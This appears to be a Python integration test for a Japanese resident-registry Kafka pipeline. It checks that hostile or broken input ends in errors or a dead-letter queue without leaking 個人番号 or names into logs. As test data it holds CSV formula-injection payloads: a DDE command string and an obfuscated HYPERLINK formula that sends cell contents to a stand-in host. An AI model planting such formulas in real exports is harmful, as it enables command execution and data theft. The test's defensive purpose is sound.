"""The bad-input suite: hostile and broken input at every entry, on the real broker and registry.

One CP932 CSV export through `renkei publish` and raw records straight onto the topic (as a
misbehaving vendor system would write them), then `renkei worker standardize`. Every bad input
must end as a clear error or a DLQ record; nothing crashes; every valid record arrives; no
個人番号 survives anywhere; the worker's log and metrics hold none of the residents' names or
addresses.
"""

from __future__ import annotations

import asyncio
import copy
import struct
import urllib.request
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from renkei.cli import cli
from renkei.contracts.dlq import header_map
from renkei.errors import PublishError
from renkei.identifiers.mynumber import my_number_check_digit
from renkei.publish.producer import Publisher
from renkei.schemas.catalogue import Catalogue, load_catalogue
from renkei.schemas.jsonform import to_datum
from renkei.schemas.models import RecordValidator
from renkei.serde.avro import AvroEncoder
from renkei.serde.registry import RegistryClient
from renkei.settings import Settings
from tests.integration.independent_client import read_all
from tests.runtime.kafka_helpers import WorkerProcess, free_port, produce, read_until

pytestmark = [pytest.mark.kafka, pytest.mark.timeout(300)]
REPO = Path(__file__).resolve().parents[2]
TOPIC = "registry.resident.events"
MY_NUMBER = "98765432109" + str(my_number_check_digit("98765432109"))
FULL_WIDTH_MY_NUMBER = MY_NUMBER.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
FORMULA = "=cmd|' /C calc'!A0"
SMALL_EQUALS_FORMULA = '\ufe66HYPERLINK("http://x.example/?q="&A1)'  # NFKC: =HYPERLINK(…)
MINUS_GROUPED = f"{MY_NUMBER[:4]}\u2212{MY_NUMBER[4:8]}\u2212{MY_NUMBER[8:]}"  # U+2212 MINUS
HEADER = (
    "統合宛名番号,異動日,処理日時,異動事由,氏,名,氏カナ,名カナ,生年月日,性別,住民種別,郵便番号,"
    "住所,方書,世帯番号,続柄,前住所市町村コード,前住所,転出先市町村コード,転出先住所,支援措置"
)
# Names and addresses of the test residents: none may appear in logs or metrics.
PERSONAL = ["鷹野", "澄江", "ﾀｶﾉ", "タカノ", "旭ケ丘", "麹町", "瑞穂荘", "柊木", "楓"]


def _row(key: str, family: str, building: str = "瑞穂荘101") -> str:
    return (
        f"{key},R8.10.1,2026-10-09 10:42:17,転入,{family},澄江,ﾀｶﾉ,ｽﾐｴ,昭和55年4月1日,女,日本人,"
        f"〒064-0941,北海道札幌市中央区旭ケ丘５丁目６番５１号,{building},0001023454,世帯主,131016,"
        "東京都千代田区麹町3丁目2番1号,,,無"
    )


def _csv() -> bytes:
    """Two valid rows around one row of each bad kind; returns CP932 bytes."""
    lines = [
        _row("000000012345678", "鷹野").encode("cp932"),
        _row("000000012345679", FORMULA).encode("cp932"),  # formula injection → standardize DLQ
        _row("000000012345680", "柊木\x07").encode("cp932"),  # a control character: removed
        _row("000000012345681", "鷹野", FULL_WIDTH_MY_NUMBER).encode("cp932"),  # 個人番号 → DLQ
        _row("000000012345682", "楓").encode("cp932") + b"\x82\xff",  # not CP932
        b"000000012345683," + b"x" * (2 * 1024 * 1024),  # an enormous line
        _row("000000012345684", "鷹野").encode("cp932"),
    ]
    return b"\r\n".join([HEADER.encode("cp932"), *lines]) + b"\r\n"


def _mapping(tmp_path: Path, topic: str) -> Path:
    mapping = yaml.safe_load((REPO / "deploy/mappings/jumin-kiroku-idou.yaml").read_text("utf-8"))
    mapping["topic"] = topic
    path = tmp_path / "mapping.yaml"
    path.write_text(yaml.safe_dump(mapping, allow_unicode=True), "utf-8")
    return path


async def _raw_records(settings: Settings, catalogue: Catalogue, topic: str) -> list[Any]:
    """Records a broken or hostile producer writes, bypassing the publisher's validation."""
    spec = catalogue.get(topic)
    client = RegistryClient(settings.schema_registry_url)
    encoder = AvroEncoder(client, spec.subject, spec.schema)
    await encoder.prepare()
    try:
        born = to_datum(spec.schema, RecordValidator(spec.schema).validate(spec.examples["born"]))
        born["resident_key"] = "000000045678904"
        framed = encoder.encode(born)
        with_number = copy.deepcopy(born)
        with_number["resident_key"] = "000000045678905"
        with_number["detail"][1]["person"]["given_name"] = MY_NUMBER  # (branch, record) union
        look_alike = copy.deepcopy(born)  # full-width digits in the key: not the same resident
        look_alike["resident_key"] = "０００００００４５６７８９０６"
        # refused for a formula (after NFKC), with a 個人番号 in free text in another field
        formula = copy.deepcopy(born)
        formula["resident_key"] = "000000045678907"
        formula["detail"][1]["person"]["family_name"] = SMALL_EQUALS_FORMULA
        formula["reason"] = f"出生 マイナンバー:{MINUS_GROUPED}"
        header_number = copy.deepcopy(born)  # a valid value, a 個人番号 in a vendor header
        header_number["resident_key"] = "000000045678908"
        records = {
            "truncated": framed[:40],  # right magic byte and id, body cut short
            "unknown-id": struct.pack(">bI", 0, 1_999_999_999) + framed[5:],
            "magic": b"\x02" + framed[1:],
            "my-number": encoder.encode(with_number),
            "look-alike": encoder.encode(look_alike),
            "formula-nfkc": encoder.encode(formula),
            "header-number": encoder.encode(header_number),
            "valid-raw": framed,
        }
    finally:
        await client.aclose()
    extra = {
        "header-number": [("x-vendor-note", f"個人番号 {MINUS_GROUPED}".encode())],
        "valid-raw": [("x-vendor-trace", b"trace-0042")],  # dropped by standardize
    }
    return [
        (name.encode(), value, [("ce_id", name.encode()), *extra.get(name, [])], None)
        for name, value in records.items()
    ]


async def _ten_megabytes(settings: Settings, catalogue: Catalogue, topic: str) -> str:
    born = copy.deepcopy(catalogue.get(topic).examples["born"])
    born["detail"]["address"]["building"] = "棟" * (10 * 1024 * 1024 // 3)
    async with Publisher(settings, catalogue) as publisher:
        with pytest.raises(PublishError) as refused:
            await publisher.publish(topic, born)
    return str(refused.value)


def test_bad_input_ends_as_a_clear_error_or_in_the_dlq_and_nothing_valid_is_lost(
    live_stack: Settings,
    isolated_schemas_dir: tuple[Path, str],
    tmp_path: Path,
) -> None:
    settings = live_stack
    schemas_dir, bare = isolated_schemas_dir
    prefix, topic = f"{bare}.", f"{bare}.{TOPIC}"
    catalogue = load_catalogue(schemas_dir)
    env = {"RENKEI_SCHEMAS_DIR": str(schemas_dir)}
    applied = CliRunner().invoke(cli, ["schemas", "apply"], env=env)
    assert applied.exit_code == 0, applied.output

    # 1. the CSV export through the CLI
    export = tmp_path / "idou.csv"
    export.write_bytes(_csv())
    args = ["publish", "--format", "csv", "--mapping", str(_mapping(tmp_path, topic)), topic]
    result = CliRunner().invoke(
        cli, [*args, str(export)], env={**env, "RENKEI_TOPIC_PREFIX": prefix}
    )
    assert result.exit_code == 1, result.output
    assert f"7 lines, 4 published, 3 invalid (kept in {prefix}dlq.{TOPIC})" in result.output
    assert "line 5: detail.address.building: a 個人番号" in result.output
    assert "line 6: (line): not valid CP932" in result.output
    assert "line 7: (line): line longer than 1 MiB" in result.output
    assert MY_NUMBER not in result.output and FULL_WIDTH_MY_NUMBER not in result.output

    # 2. a 10 MB record: refused by the client with a clear message, nothing sent
    message = asyncio.run(_ten_megabytes(settings, catalogue, topic))
    assert "larger than" in message and "MiB" in message, message

    # 3. a misbehaving producer writes straight to the topic
    raw = asyncio.run(_raw_records(settings, catalogue, topic))
    asyncio.run(produce(settings, topic, raw))

    port = free_port()
    worker = WorkerProcess(
        "standardize", tmp_path / "worker.log", {"RENKEI_TOPIC_PREFIX": prefix}, web_port=port
    )
    try:
        std = read_all(settings, f"{prefix}std.{TOPIC}", 4, timeout=150)
        dlq_stage = asyncio.run(
            read_until(
                settings,
                f"{prefix}dlq.{TOPIC}",
                lambda r: (
                    sum(header_map(x.headers)["renkei.dlq.stage"] == "standardize" for x in r) >= 8
                ),
                90,
            )
        )
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=10) as response:
            metrics = response.read().decode("utf-8")
    finally:
        code = worker.stop()
    log = worker.output()
    assert code == 0, log

    # every valid record arrived: two clean CSV rows, the control-character row, the raw one
    keys = sorted(v["value"]["resident_key"] for v in std)
    assert keys == ["000000012345678", "000000012345680", "000000012345684", "000000045678904"]
    cleaned = next(v["value"] for v in std if v["value"]["resident_key"] == "000000012345680")
    assert cleaned["detail"]["person"]["family_name"] == "柊木"
    vendor = next(v for v in std if v["value"]["resident_key"] == "000000045678904")
    assert "x-vendor-trace" not in vendor["headers"] and vendor["headers"]["ce_id"] == "valid-raw"

    by_reason: dict[str, list[str]] = {}
    for record in dlq_stage:
        headers = header_map(record.headers)
        by_reason.setdefault(
            f"{headers['renkei.dlq.stage']}:{headers['renkei.dlq.reason']}", []
        ).append(headers.get("ce_id") or headers.get("renkei.dlq.origin", ""))
        blob = (record.key or b"") + (record.value or b"") + repr(record.headers).encode()
        assert MY_NUMBER.encode() not in blob and FULL_WIDTH_MY_NUMBER.encode() not in blob
        texts = " ".join(header_map(record.headers).values())
        assert MINUS_GROUPED.encode() not in blob and MINUS_GROUPED not in texts
    assert sorted(by_reason["publisher:validation"]) == [
        "idou.csv line 5",
        "idou.csv line 6",
        "idou.csv line 7",
    ]
    assert sorted(by_reason["standardize:deserialization"]) == ["magic", "truncated"]
    assert by_reason["standardize:schema"] == ["unknown-id"]
    standardization = by_reason["standardize:standardization"]
    assert {"my-number", "look-alike", "formula-nfkc", "header-number"} <= set(standardization)
    assert len(standardization) == 5  # and the formula row of the CSV (its ce_id is an event id)
    for name in ("formula-nfkc", "header-number"):  # masked whatever the reason
        kept = next(r for r in dlq_stage if header_map(r.headers).get("ce_id") == name)
        assert header_map(kept.headers)["renkei.masked"] == "my_number", name
    masked = next(r for r in dlq_stage if header_map(r.headers).get("ce_id") == "my-number")
    assert header_map(masked.headers)["renkei.masked"] == "my_number"
    assert b"*" * 12 in (masked.value or b"")
    formula = [
        header_map(r.headers)["renkei.dlq.detail"]
        for r in dlq_stage
        if "formula" in header_map(r.headers)["renkei.dlq.detail"]
    ]
    assert formula and formula[0].startswith("detail.person.family_name: starts like a spreadsheet")

    # no personal data in what operators see
    for word in [*PERSONAL, FORMULA, MY_NUMBER, FULL_WIDTH_MY_NUMBER]:
        assert word not in log, word
        assert word not in metrics, word
